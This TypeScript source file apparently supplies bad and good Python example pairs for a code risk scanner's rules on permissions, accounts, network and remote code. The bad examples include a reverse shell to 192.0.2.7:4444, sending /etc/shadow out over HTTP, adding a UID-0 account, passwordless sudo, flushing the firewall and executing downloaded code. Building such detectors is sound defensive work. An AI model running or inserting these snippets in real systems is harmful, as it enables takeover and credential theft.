import type { RuleId } from "..";
import type { RiskExample } from "../rule";

/** Permissions, accounts, the network and remote code, as Python gets at them. */
export const pythonAccessExamples: Partial<Record<RuleId, RiskExample>> = {
  // Permissions
  "open-permissions": {
    bad: `import os

os.chmod("/etc/shadow", 0o666)`,
    good: `import os

os.chmod("/opt/app/run.sh", 0o755)`,
  },
  "recursive-permissions": {
    bad: `import os

for base, folders, files in os.walk("/etc"):
    for name in files:
        os.chown(os.path.join(base, name), 1000, 1000)`,
    good: `import os

for base, folders, files in os.walk("/opt/app"):
    for name in files:
        os.chown(os.path.join(base, name), 1000, 1000)`,
  },
  "set-user-id": {
    bad: `import os, shutil

shutil.copy("/bin/bash", "/opt/app/sh")
os.chmod("/opt/app/sh", 0o4755)`,
    good: `import os

os.chmod("/opt/app/sh", 0o755)`,
  },
  "disable-access-control": {
    bad: `import subprocess

subprocess.call(["setenforce", "0"])`,
    good: `import subprocess

subprocess.call(["getenforce"])`,
  },
  "remove-access": {
    bad: `import os

os.chmod("/usr/bin", 0)`,
    good: `import os

os.chmod("/opt/app/old", 0)`,
  },
  // Accounts
  "add-root-account": {
    bad: `with open("/etc/passwd", "a") as accounts:
    accounts.write("ops:x:0:0::/root:/bin/bash\\n")`,
    good: `import subprocess

subprocess.check_call(["useradd", "-m", "ops"])`,
  },
  "set-password": {
    bad: `import subprocess

subprocess.run(["chpasswd"], input="root:Start-123", text=True)`,
    good: `import subprocess

subprocess.run(["chage", "-d", "0", "ops"])`,
  },
  "passwordless-sudo": {
    bad: `with open("/etc/sudoers.d/ops", "w") as rule:
    rule.write("ops ALL=(ALL) NOPASSWD: ALL\\n")`,
    good: `with open("/etc/sudoers.d/ops", "w") as rule:
    rule.write("ops ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\\n")`,
  },
  "authorize-key": {
    bad: `with open("/root/.ssh/authorized_keys", "a") as keys:
    keys.write("ssh-ed25519 AAAA ops@example.com\\n")`,
    good: `with open("/home/deploy/.ssh/authorized_keys", "a") as keys:
    keys.write("ssh-ed25519 AAAA ops@example.com\\n")`,
  },
  "weaken-login": {
    bad: `with open("/etc/ssh/sshd_config", "a") as settings:
    settings.write("PermitRootLogin yes\\n")`,
    good: `with open("/etc/ssh/sshd_config.d/50-ops.conf", "w") as settings:
    settings.write("PermitRootLogin no\\n")`,
  },
  "delete-account": {
    bad: `import subprocess

subprocess.call(["userdel", "-r", "root"])`,
    good: `import subprocess

subprocess.call(["usermod", "-L", "ops"])`,
  },
  "leak-credentials": {
    bad: `import urllib.request

data = open("/etc/shadow", "rb").read()
urllib.request.urlopen("http://192.0.2.7/", data=data)`,
    good: `import hashlib

print(hashlib.sha256(open("/etc/shadow", "rb").read()).hexdigest())`,
  },
  "edit-accounts": {
    bad: `with open("/etc/shadow", "w") as accounts:
    accounts.write("root::19000:0:99999:7:::\\n")`,
    good: `import subprocess

subprocess.check_call(["useradd", "-m", "ops"])`,
  },
  // Network
  "flush-firewall": {
    bad: `import os

os.system("iptables -F")`,
    good: `import os

os.system("iptables -I INPUT -p tcp --dport 9443 -j ACCEPT")`,
  },
  "block-network": {
    bad: `import subprocess

subprocess.run(["iptables", "-P", "INPUT", "DROP"])`,
    good: `import subprocess

subprocess.run(["iptables", "-A", "INPUT", "-s", "192.0.2.7", "-j", "DROP"])`,
  },
  "interface-down": {
    bad: `import os

os.system("ip link set eth0 down")`,
    good: `import os

os.system("ip link show eth0")`,
  },
  "drop-route": {
    bad: `import os

os.system("ip route del default")`,
    good: `import os

os.system("ip route replace 10.1.0.0/16 via 10.0.0.1")`,
  },
  "stop-network-service": {
    bad: `import subprocess

subprocess.call("systemctl stop sshd", shell=True)`,
    good: `import subprocess

subprocess.call("systemctl reload sshd", shell=True)`,
  },
  // Remote code
  "run-download": {
    bad: `import requests

exec(requests.get("http://x.example.com/a.py").text)`,
    good: `import hashlib, requests, sys

code = requests.get("https://x.example.com/a.py").content
if hashlib.sha256(code).hexdigest() != "9b1c0f8e6f3b2a5d":
    sys.exit("the digest differs")
exec(code)`,
  },
  "remote-shell": {
    bad: `import os, socket, subprocess

s = socket.socket()
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])`,
    good: `import socket

s = socket.create_connection(("192.0.2.7", 443))
print(s.getpeername())`,
  },
  "run-unknown": {
    bad: `exec(open("/opt/app/hook.py").read())`,
    good: `import ast

print(ast.literal_eval(open("/opt/app/hook.txt").read()))`,
  },
  "untrusted-package": {
    bad: `import subprocess

subprocess.call(["rpm", "-i", "--nosignature", "http://x.example.com/a.rpm"])`,
    good: `import subprocess

subprocess.call(["dnf", "-y", "install", "chrony"])`,
  },
};
